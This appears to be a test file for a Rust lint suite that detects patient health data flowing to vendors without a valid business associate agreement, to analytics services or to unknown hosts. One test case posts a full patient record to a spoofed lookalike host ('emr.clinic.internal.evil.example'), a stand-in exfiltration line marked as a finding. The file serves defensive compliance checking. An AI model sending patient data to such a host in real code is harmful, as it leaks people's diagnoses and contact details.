//! In force, too narrow, expired, missing; our own hosts and those of strangers.
//@ lints: phi_to_analytics phi_to_messaging phi_to_ai vendor_without_baa phi_to_third_party
//@ config: [[vendor]]
//@ config: name = "Twilio"
//@ config: crates = ["twilio"]
//@ config: hosts = ["api.twilio.com"]
//@ config: baa = { signed = "2026-01-03", expires = "2027-01-03", covers = ["phone"] }
//@ config: [[vendor]]
//@ config: name = "SendGrid"
//@ config: hosts = ["api.sendgrid.com"]
//@ config: baa = { signed = "2024-01-03", expires = "2025-01-03", covers = ["email", "name"] }
//@ config: [[vendor]]
//@ config: name = "Partner"
//@ config: hosts = ["partner.example.com"]
//@ config: [[vendor]]
//@ config: name = "OpenAI"
//@ config: crates = ["async_openai"]
//@ config: hosts = ["api.openai.com"]
//@ config: baa = { signed = "2026-01-03", expires = "2027-12-03" }
//@ config: [[internal]]
//@ config: hosts = ["*.clinic.internal"]
use phi::Phi;
use serde_json::json;
#[derive(Phi, serde::Serialize)]
struct Patient { #[phi(identifier = "name")] name: String, #[phi(identifier = "email")] email: String, #[phi(identifier = "phone")] phone: String, #[phi(kind = "diagnosis")] diagnosis: String }

async fn covered(http: &reqwest::Client, p: &Patient) {
    http.post("https://api.twilio.com/x").form(&[("To", &p.phone)]).send().await.unwrap();
}
async fn too_narrow(http: &reqwest::Client, p: &Patient) {
    http.post("https://api.twilio.com/x").form(&[("To", &p.phone), ("Body", &p.diagnosis)]).send().await.unwrap(); //~ phi_to_messaging vendor_without_baa
}
async fn expired(http: &reqwest::Client, p: &Patient) {
    http.post("https://api.sendgrid.com/v3/mail/send").json(&json!({ "to": p.email })).send().await.unwrap(); //~ phi_to_messaging vendor_without_baa
}
async fn none(http: &reqwest::Client, p: &Patient) {
    http.post("https://partner.example.com/x").json(&json!({ "to": p.email })).send().await.unwrap(); //~ phi_to_third_party vendor_without_baa
}
async fn in_force(http: &reqwest::Client, p: &Patient) {
    http.post("https://api.openai.com/v1/chat/completions").json(&json!({ "content": p.diagnosis })).send().await.unwrap();
}
async fn openai_crate(p: &Patient) {
    let r = async_openai::types::CreateEmbeddingRequestArgs::default().model("text-embedding-3-small").input(p.diagnosis.clone()).build().unwrap();
    async_openai::Client::new().embeddings().create(r).await.unwrap();
}
async fn internal(http: &reqwest::Client, p: &Patient) {
    http.post("https://emr.clinic.internal/x").json(p).send().await.unwrap();
    http.post("https://emr.clinic.internal.evil.example/x").json(p).send().await.unwrap(); //~ phi_to_third_party
}
async fn unregistered(http: &reqwest::Client, p: &Patient) {
    http.post("https://api.mixpanel.com/track").json(&json!({ "n": p.name })).send().await.unwrap(); //~ phi_to_analytics
}
